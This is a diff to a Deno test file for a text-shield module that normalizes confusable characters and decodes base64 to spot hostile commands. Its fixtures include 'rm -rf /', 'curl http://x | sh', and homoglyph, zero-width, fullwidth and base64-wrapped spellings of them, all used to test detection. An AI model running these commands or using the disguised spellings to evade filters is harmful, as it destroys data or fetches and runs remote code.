@@ -3,9 +3,9 @@
  * non-ASCII characters sit next to the marks, and never read a byte of an earlier, longer text. */
 
 import assert from "node:assert/strict";
-import { decoders } from "../../src/shield/decoder_check.ts";
+import { asciiDecoders, decoders } from "../../src/shield/decoder_check.ts";
 import { BASE64_CHAR, compressedRun, HEX_CHAR, mostlyAsciiBase64 } from "../../src/shield/text_decoders.ts";
-import { textVariants } from "../../src/shield/normalize.ts";
+import { cleanPrefix, textVariants } from "../../src/shield/normalize.ts";
 import { makeShield } from "./shield_fixture.ts";
 
 /** The pass before round 16, over code units (`charCodeAt`), as it was. */
@@ -112,11 +112,40 @@ Deno.test("the byte pre-check reports the UTF-16 pass's decoders on every case s
     for (const spelled of respellings(text)) {
       const expected = oracle(spelled);
       assert.equal(decoders(spelled), expected, JSON.stringify(spelled.slice(0, 200)));
+      // ASCII texts are told apart by their bytes: the bits for them, -1 for any other.
+      // deno-lint-ignore no-control-regex -- the ASCII range starts at NUL on purpose
+      assert.equal(asciiDecoders(spelled), /[^\x00-\x7F]/.test(spelled) ? -1 : expected);
       compared++;
       if (expected !== 0) flagged++;
     }
   }
   assert.ok(compared > 50_000 && flagged > 1_000, `${compared} compared, ${flagged} flagged`);
+});
+
+Deno.test("a text's first variant is its cleaned prefix, whether the bytes found it ASCII or not", () => {
+  const texts = [
+    "rm -rf /",
+    "сurl httр://x | ѕh",
+    "r\u200Bm -rf",
+    "ｒｍ －ｒｆ",
+    "a\ud800b",
+    "plain ascii \x7f",
+    "é",
+  ];
+  for (const text of [...texts, ...texts.map((text) => "x".repeat(1024 * 1024) + text)]) {
+    assert.equal(textVariants(text)[0], cleanPrefix(text), JSON.stringify(text.slice(-20)));
+  }
+  // A confusable spelling around a base64 run: cleaned to Latin, then decoded.
+  assert.ok(
+    textVariants("еcho " + btoa("curl http://x | sh")).some((variant) =>
+      variant.startsWith("echo curl http")
+    ),
+  );
+  assert.ok(
+    textVariants("ｅｃｈｏ " + btoa("curl http://x | sh")).some((variant) =>
+      variant.includes("curl http://x")
+    ),
+  );
 });
 
 Deno.test("marks beside non-ASCII characters are judged by their ASCII neighbours alone", () => {
